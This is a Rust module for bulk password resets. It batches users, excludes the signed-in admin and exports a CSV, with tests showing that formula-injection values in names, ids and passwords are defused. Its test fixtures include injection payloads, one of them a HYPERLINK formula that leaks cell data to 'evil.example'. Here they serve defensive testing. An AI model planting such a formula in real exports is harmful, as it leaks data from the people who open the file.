//! Bulk resets: many users at once, sent in requests of at most
//! [`MAX_PER_REQUEST`] resets, as the Microsoft 365 admin center advises.

use serde::Deserialize;

/// The most resets one request carries (the wire contract's `resets` array).
pub const MAX_PER_REQUEST: usize = 40;

/// One user of a bulk reset (the `users` attribute: a JSON array of these).
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BulkUser {
    pub id: String,
    #[serde(default)]
    pub name: String,
    #[serde(default)]
    pub email: String,
}

impl BulkUser {
    /// How the user is named on screen: the name, or the id when there is none.
    pub fn display_name(&self) -> &str {
        name_or_id(&self.name, &self.id)
    }
}

/// A user's name, or their id when the name is empty.
pub fn name_or_id<'a>(name: &'a str, id: &'a str) -> &'a str {
    if name.is_empty() {
        id
    } else {
        name
    }
}

/// The users to reset, without the signed-in admin (who cannot reset their
/// own password at the same time as everyone else's).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BulkUsers {
    pub users: Vec<BulkUser>,
    /// The signed-in admin, when the list held them.
    pub excluded_self: Option<BulkUser>,
}

/// Why a `users` list cannot be used.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BulkError {
    NotJson(String),
    Empty,
    MissingId(usize),
    Duplicate(String),
}

impl std::fmt::Display for BulkError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::NotJson(e) => write!(
                f,
                "must be a JSON array of {{\"id\", \"name\", \"email\"}} objects ({e})"
            ),
            Self::Empty => write!(f, "holds no user to reset"),
            Self::MissingId(i) => write!(f, "user {i} has an empty id"),
            Self::Duplicate(id) => write!(f, "user \"{id}\" is listed twice"),
        }
    }
}

/// Reads the `users` attribute and leaves out `current_user_id`.
pub fn parse_users(json: &str, current_user_id: Option<&str>) -> Result<BulkUsers, BulkError> {
    let all: Vec<BulkUser> =
        super::json::from_str(json).map_err(|e| BulkError::NotJson(e.to_string()))?;
    let mut seen = std::collections::HashSet::new();
    for (i, u) in all.iter().enumerate() {
        if u.id.trim().is_empty() {
            return Err(BulkError::MissingId(i));
        }
        if !seen.insert(u.id.as_str()) {
            return Err(BulkError::Duplicate(u.id.clone()));
        }
    }
    let (excluded, users): (Vec<BulkUser>, Vec<BulkUser>) = all
        .into_iter()
        .partition(|u| Some(u.id.as_str()) == current_user_id);
    if users.is_empty() {
        return Err(BulkError::Empty);
    }
    Ok(BulkUsers {
        users,
        excluded_self: excluded.into_iter().next(),
    })
}

/// Splits `items` into batches of at most [`MAX_PER_REQUEST`], in order.
pub fn batches<T: Clone>(items: &[T]) -> Vec<Vec<T>> {
    items.chunks(MAX_PER_REQUEST).map(<[T]>::to_vec).collect()
}

/// One CSV field, quoted when it must be (RFC 4180).
pub fn csv_field(value: &str) -> String {
    if value.contains([',', '"', '\n', '\r']) || value.starts_with(' ') || value.ends_with(' ') {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

/// What makes a spreadsheet (Excel, LibreOffice Calc, Google Sheets) read a
/// CSV cell as a formula, quoted or not: OWASP's `=` `+` `-` `@` TAB and CR,
/// with LF, and the full-width `＝＋－＠` some Excel locales also accept.
const FORMULA_STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether a spreadsheet could take `value` for a formula: it starts with one
/// of [`FORMULA_STARTS`], also after leading spaces.
fn could_be_a_formula(value: &str) -> bool {
    value.starts_with(FORMULA_STARTS) || value.trim_start().starts_with(FORMULA_STARTS)
}

/// A directory value (id, name) as a CSV field, defused as OWASP advises: one
/// that could be a formula is prefixed with `'` and quoted, so a spreadsheet
/// shows it as text (with the `'` in front) and never runs it.
pub fn csv_text_field(value: &str) -> String {
    if could_be_a_formula(value) {
        format!("\"'{}\"", value.replace('"', "\"\""))
    } else {
        csv_field(value)
    }
}

/// Excel's longest text constant in a formula, in characters.
const FORMULA_TEXT_MAX: usize = 255;

/// A password as a CSV field that a spreadsheet shows exactly as issued:
/// always the formula `="…"`, a text constant and nothing else (split into
/// `"…"&"…"` pieces of at most 255 characters, Excel's limit). A spreadsheet
/// evaluates it to the password itself, as text: never a formula of the
/// password's own, a number (`0012`, `1e5`) or a date (`1/2`), and copying the
/// cell copies the password. OWASP's `'` prefix would change the password's
/// text, and quoting alone stops nothing (`"=1+1"` is still a formula).
pub fn csv_password_field(password: &str) -> String {
    let chars: Vec<char> = password.chars().collect();
    let pieces: Vec<String> = if chars.is_empty() {
        vec![String::from("\"\"")]
    } else {
        chars
            .chunks(FORMULA_TEXT_MAX)
            .map(|piece| {
                format!(
                    "\"{}\"",
                    piece.iter().collect::<String>().replace('"', "\"\"")
                )
            })
            .collect()
    };
    csv_field(&format!("={}", pieces.join("&")))
}

/// A CSV of `(user id, name, password)` rows with a header line: ids and
/// names defused ([`csv_text_field`]), passwords as `="…"` ([`csv_password_field`]).
pub fn csv<'a>(rows: impl IntoIterator<Item = (&'a str, &'a str, &'a str)>) -> String {
    let mut out = String::from("user id,name,password\r\n");
    for (id, name, password) in rows {
        out.push_str(&format!(
            "{},{},{}\r\n",
            csv_text_field(id),
            csv_text_field(name),
            csv_password_field(password)
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn users(n: usize) -> String {
        let list: Vec<String> = (0..n)
            .map(|i| format!(r#"{{"id":"u-{i}","name":"User {i}","email":"u{i}@contoso.com"}}"#))
            .collect();
        format!("[{}]", list.join(","))
    }

    #[test]
    fn ninety_five_users_make_three_requests_of_40_40_and_15() {
        let list = parse_users(&users(95), None).unwrap();
        let sizes: Vec<usize> = batches(&list.users).iter().map(Vec::len).collect();
        assert_eq!(sizes, vec![40, 40, 15]);
        assert_eq!(batches::<u8>(&[]).len(), 0);
        assert_eq!(batches(&[1; 40]).len(), 1);
        assert_eq!(batches(&[1; 41]).len(), 2);
    }

    #[test]
    fn the_signed_in_admin_is_left_out() {
        let list = parse_users(&users(5), Some("u-2")).unwrap();
        assert_eq!(list.users.len(), 4);
        assert_eq!(list.excluded_self.unwrap().id, "u-2");
        assert!(list.users.iter().all(|u| u.id != "u-2"));
        assert_eq!(
            parse_users(&users(5), Some("nobody"))
                .unwrap()
                .excluded_self,
            None
        );
    }

    #[test]
    fn bad_lists_are_refused() {
        assert!(matches!(
            parse_users("{}", None),
            Err(BulkError::NotJson(_))
        ));
        assert_eq!(parse_users("[]", None), Err(BulkError::Empty));
        assert_eq!(
            parse_users(r#"[{"id":"a"}]"#, Some("a")),
            Err(BulkError::Empty)
        );
        assert_eq!(
            parse_users(r#"[{"id":" "}]"#, None),
            Err(BulkError::MissingId(0))
        );
        assert_eq!(
            parse_users(r#"[{"id":"a"},{"id":"a"}]"#, None),
            Err(BulkError::Duplicate("a".into()))
        );
        assert!(!BulkError::Empty.to_string().is_empty());
    }

    #[test]
    fn csv_quotes_defuses_names_and_writes_passwords_as_text_formulas() {
        let text = csv([("u-1", "Prescott, Diane", "a\"b"), ("u-2", "=cmd", "-x")]);
        assert_eq!(
            text,
            "user id,name,password\r\n\
             u-1,\"Prescott, Diane\",\"=\"\"a\"\"\"\"b\"\"\"\r\n\
             u-2,\"'=cmd\",\"=\"\"-x\"\"\"\r\n"
        );
        assert_eq!(csv_password_field(""), "\"=\"\"\"\"\"");
    }

    /// How a spreadsheet reads a CSV file, written from what Excel, LibreOffice
    /// Calc and Google Sheets do (and independent of the code above): fields
    /// as RFC 4180 splits them; a cell whose text starts with `=` `+` `-` `@`
    /// TAB, CR or LF (or a full-width `＝＋－＠`), also after spaces, is a
    /// formula, quoted or not. Only formulas made of text constants (`="…"`,
    /// `="…"&"…"`, each at most 255 characters) are evaluated here; any other
    /// formula is what must never be in the file.
    mod spreadsheet {
        #[derive(Debug, PartialEq)]
        pub enum Cell {
            Text(String),
            /// A formula of text constants only, and the text it shows.
            TextFormula(String),
            /// Any other formula: it would run.
            Formula(String),
        }

        pub fn rows(csv: &str) -> Vec<Vec<String>> {
            let mut rows = Vec::new();
            let mut row = Vec::new();
            let mut field = String::new();
            let mut chars = csv.chars().peekable();
            let mut quoted = false;
            while let Some(c) = chars.next() {
                match (quoted, c) {
                    (true, '"') if chars.peek() == Some(&'"') => {
                        chars.next();
                        field.push('"');
                    }
                    (true, '"') => quoted = false,
                    (true, c) => field.push(c),
                    (false, '"') if field.is_empty() => quoted = true,
                    (false, ',') => row.push(std::mem::take(&mut field)),
                    (false, '\r') if chars.peek() == Some(&'\n') => {}
                    (false, '\n') => {
                        row.push(std::mem::take(&mut field));
                        rows.push(std::mem::take(&mut row));
                    }
                    (false, c) => field.push(c),
                }
            }
            assert!(!quoted, "unterminated quoted field");
            assert!(
                field.is_empty() && row.is_empty(),
                "the last line has no line break"
            );
            rows
        }

        pub fn cell(text: &str) -> Cell {
            let triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
            let first = text.trim_start_matches(' ').chars().next();
            let starts_formula =
                text.starts_with(triggers) || first.is_some_and(|c| triggers.contains(&c));
            if !starts_formula {
                return Cell::Text(text.to_string());
            }
            match text_constants(text) {
                Some(shown) => Cell::TextFormula(shown),
                None => Cell::Formula(text.to_string()),
            }
        }

        /// `="…"&"…"`: the text it evaluates to, or None for anything else.
        fn text_constants(formula: &str) -> Option<String> {
            let mut rest = formula.strip_prefix('=')?.chars().peekable();
            let mut shown = String::new();
            loop {
                if rest.next()? != '"' {
                    return None;
                }
                let mut constant = 0usize;
                loop {
                    match rest.next()? {
                        '"' if rest.peek() == Some(&'"') => {
                            rest.next();
                            shown.push('"');
                        }
                        '"' => break,
                        c => shown.push(c),
                    }
                    constant += 1;
                }
                if constant > 255 {
                    return None;
                }
                match rest.next() {
                    None => return Some(shown),
                    Some('&') => continue,
                    Some(_) => return None,
                }
            }
        }
    }

    #[test]
    fn the_model_spreadsheet_runs_what_a_real_one_runs() {
        use spreadsheet::{cell, rows, Cell};
        assert_eq!(cell("=1+1"), Cell::Formula("=1+1".into()));
        assert_eq!(cell("\t=1"), Cell::Formula("\t=1".into()));
        assert_eq!(cell(" @SUM(A1)"), Cell::Formula(" @SUM(A1)".into()));
        assert_eq!(cell("=\"a\"&B1"), Cell::Formula("=\"a\"&B1".into()));
        assert_eq!(cell("=\"a\"\"b\"&\"c\""), Cell::TextFormula("a\"bc".into()));
        assert_eq!(cell("'=1+1"), Cell::Text("'=1+1".into()));
        assert_eq!(
            rows("a,\"=1+1\",\"x\"\"\r\ny\"\r\n"),
            vec![vec!["a".to_string(), "=1+1".into(), "x\"\r\ny".into()]]
        );
    }

    /// Thousands of generated passwords (about 1 in 25 of them starts with
    /// `=` `+` `-` or `@`) and hostile names: read as a spreadsheet reads the
    /// file, no cell is a formula but the passwords' `="…"`, and each shows the
    /// password exactly as issued.
    #[test]
    fn a_spreadsheet_shows_every_password_exactly_and_runs_nothing() {
        use crate::core::generator::{
            generate, CharacterOptions, ClassRule, GeneratorOptions, PassphraseOptions,
        };
        use crate::core::random::testing::SeededRandom;
        use spreadsheet::{cell, rows, Cell};

        let mut rng = SeededRandom(0x5EED_C5F0);
        let symbol_heavy = CharacterOptions {
            length: 12,
            symbols: ClassRule {
                enabled: true,
                min: 8,
            },
            ..CharacterOptions::default()
        };
        let digits_only = CharacterOptions {
            lowercase: ClassRule::OFF,
            uppercase: ClassRule::OFF,
            symbols: ClassRule::OFF,
            ..CharacterOptions::default()
        };
        let option_sets = [
            GeneratorOptions::Characters(CharacterOptions::default()),
            GeneratorOptions::Characters(symbol_heavy),
            GeneratorOptions::Characters(digits_only),
            GeneratorOptions::Passphrase(PassphraseOptions {
                separator: "=+".into(),
                ..PassphraseOptions::default()
            }),
        ];
        let mut passwords: Vec<String> = option_sets
            .iter()
            .flat_map(|o| std::iter::repeat_n(o, 1500))
            .map(|o| generate(o, &mut rng).unwrap().password.expose().to_string())
            .collect();
        passwords.extend(
            [
                "=1+1",
                "-x",
                "+5",
                "@SUM(A1)",
                "0012",
                "1/2",
                "1e5",
                "a\"b",
                "\t=1",
                "=\"x\"&\"y\"",
            ]
            .map(String::from),
        );
        passwords.push("=\"".repeat(300));
        let names = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "\t=1+1",
            "\r@SUM(A1)",
            "\n=1",
            "+1",
            "-2+3",
            "@cmd",
            "  =1+1",
            "＝1+1",
            "Prescott, Diane",
            "O\"Brien",
            "Diane Prescott",
        ];
        let leading_formula = passwords
            .iter()
            .filter(|p| p.starts_with(['=', '+', '-', '@']))
            .count();
        assert!(
            leading_formula > 200,
            "{leading_formula} passwords start a formula"
        );

        let users: Vec<(String, String, String)> = passwords
            .iter()
            .enumerate()
            .map(|(i, p)| {
                let name = names[i % names.len()];
                // Ids are directory values too: some are hostile as well.
                let id = if i % 7 == 0 {
                    format!("-{i}")
                } else {
                    format!("u-{i}")
                };
                (id, name.to_string(), p.clone())
            })
            .collect();
        let text = csv(users
            .iter()
            .map(|(id, name, p)| (id.as_str(), name.as_str(), p.as_str())));
        let table = rows(&text);
        assert_eq!(table[0], ["user id", "name", "password"]);
        assert_eq!(table.len(), users.len() + 1);
        for (row, (id, name, password)) in table[1..].iter().zip(&users) {
            assert_eq!(row.len(), 3);
            for (field, value) in row[..2].iter().zip([id, name]) {
                match cell(field) {
                    // The value, or (defused) the value after a `'`.
                    Cell::Text(shown) => assert!(
                        shown == *value || shown.strip_prefix('\'') == Some(value.as_str()),
                        "{value:?} shows as {shown:?}"
                    ),
                    other => panic!("{value:?} is read as {other:?}"),
                }
            }
            match cell(&row[2]) {
                Cell::TextFormula(shown) => assert_eq!(&shown, password),
                other => panic!("password {password:?} is read as {other:?}"),
            }
        }
    }
}
